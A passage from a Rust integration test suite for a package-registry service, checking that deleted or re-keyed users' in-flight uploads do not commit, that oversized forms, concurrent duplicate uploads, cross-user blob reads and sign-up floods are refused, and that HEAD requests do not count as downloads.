    // 2. An upload in flight while its user is deleted does not commit, and the name,
    // signed up again, inherits nothing.
    let answer = upload_across(b, "doomed", "doomed-password", creds("doomed", "doomed-password"), "/user-delete/", "DELETE").await;
    assert!(answer.starts_with("HTTP/1.1 401") || answer.starts_with("HTTP/1.1 404"), "{answer}");
    send(b, "POST", "/create-user/", creds("doomed", "doomed-password-2")).await.says(201, 1, true, "User doomed created successfully.");
    absent(&api, "strux://doomed/held", "the deleted user's upload did not land").await;

    // 3. Nor one in flight while the password changes.
    let change = creds("rekey", "rekey-password").text("newPassword", "rekey-password-2");
    let answer = upload_across(b, "rekey", "rekey-password", change, "/user-password-update/", "PUT").await;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    absent(&api, "strux://rekey/held", "the re-keyed user's upload did not land").await;

    // 4. Before sign-in, a form is refused past 64 KiB while the client is still sending.
    let huge = "u".repeat(100 * 1024);
    for (method, path, field) in [("GET", "/user-exist/", "username"), ("POST", "/upload-pkg/", "files_info")] {
        let (ct, body) = GoForm::new().text(field, &huge).finish();
        let mut s = partial(b, method, path, &ct, &body[..body.len() - 10], 6_000_000).await;
        let answer = answer_of(&mut s, Duration::from_secs(5)).await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{path}: {answer}");
    }

    // 5. Concurrent uploads of one version: one wins, every other one is status 2.
    let racers: Vec<_> = (0..6)
        .map(|i| {
            let base = b.to_string();
            let tree = tree.clone();
            tokio::spawn(async move {
                let content = format!("racer {i}");
                send(&base, "POST", "/upload-pkg/", upload_form("victim", "victim-password", "2.0.0", &tree, &[("tool", "run.sh", content.as_bytes())])).await
            })
        })
        .collect();
    let mut won = 0;
    for r in racers {
        let a = r.await.unwrap();
        match a.status {
            201 => won += 1,
            _ => a.says(409, 2, false, "Version 2.0.0 of the tool package already exists."),
        }
    }
    assert_eq!(won, 1);

    // 6. A HEAD of a download counts nothing.
    let dl = || GoForm::new().text("username", "victim").text("pkgName", "tool").text("version", "2.0.0");
    let (ct, body) = dl().finish();
    let res = reqwest::Client::new().head(format!("{b}/download-package/")).header("content-type", ct).body(body).send().await.unwrap();
    assert_eq!(res.status().as_u16(), 200);
    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://victim/tool").await;
    assert_eq!(data(s, &body)["downloads"], 0, "a HEAD is not a download");

    // 7. Another user cannot read a session's unpublished bytes, though the repository
    // is public for READ.
    let victim = api.as_user("victim", "victim-password");
    let up = crate::uploads::upload(&victim, "strux", "packages", b"unpublished").await;
    let id = up["session"]["id"].as_str().unwrap();
    let (s, _) = api.as_user("mallory", "mallory-password").get(&format!("/blobs/uploads/{id}/content")).await;
    assert_eq!(s, 403);

    // 8. Sign-ups from one address are counted (5 so far; 10 a minute): the flood that
    // starved password checks is refused with 429 and Retry-After.
    let mut statuses = vec![];
    for i in 0..8 {
        statuses.push(send(b, "POST", "/create-user/", creds(&format!("flood{i}"), "flood-password")).await.status);
    }
    assert_eq!(statuses, [201, 201, 201, 201, 201, 429, 429, 429], "{statuses:?}");
}

/// Asserts that no package `key` is stored in the strux repository (which may not exist
/// yet): bkrepo's `data: null`, or the repository's 404.
async fn absent(api: &crate::harness::Api, key: &str, why: &str) {
    let (s, body) = api.get(&format!("/repository/api/package/info/strux/packages?packageKey={key}")).await;
    assert!((s == 200 && body["data"].is_null()) || (s == 404 && body["code"] == 251006), "{why}: {s} {body}");
}
